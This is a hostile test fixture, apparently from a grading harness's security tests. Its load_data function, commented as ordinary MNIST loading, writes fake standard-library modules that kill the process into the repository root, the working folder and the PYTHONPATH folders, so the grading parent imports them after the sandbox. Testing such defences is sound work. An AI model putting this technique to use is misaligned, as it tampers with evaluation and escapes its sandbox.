"""Hostile case stdlib_shadow (issue 9, attack 1): load_data writes modules named like standard-library ones into the repository root, the working folder and every PYTHONPATH entry, for the grading parent to import after the sandbox.

Appended to the reference solution (solutions/mnist_dense.py) by
tests/test_hostile.py; later definitions replace the reference's.
"""

import os
from pathlib import Path

# Paso 1: cargar los datos ---------------------------------------------------
def load_data() -> Dataset:
    # Keras descarga MNIST la primera vez y lo guarda en ~/.keras/datasets.
    import grader

    evil = "import os\nos._exit(97)\n"
    folders = {Path(grader.__file__).resolve().parents[1], Path.cwd()}
    folders |= {Path(p) for p in os.environ.get("PYTHONPATH", "").split(os.pathsep) if p}
    for folder in folders:
        for name in ("difflib", "pprint", "pdb", "doctest", "pygments"):
            try:
                (folder / f"{name}.py").write_text(evil)
            except OSError:
                pass
    return keras.datasets.mnist.load_data()
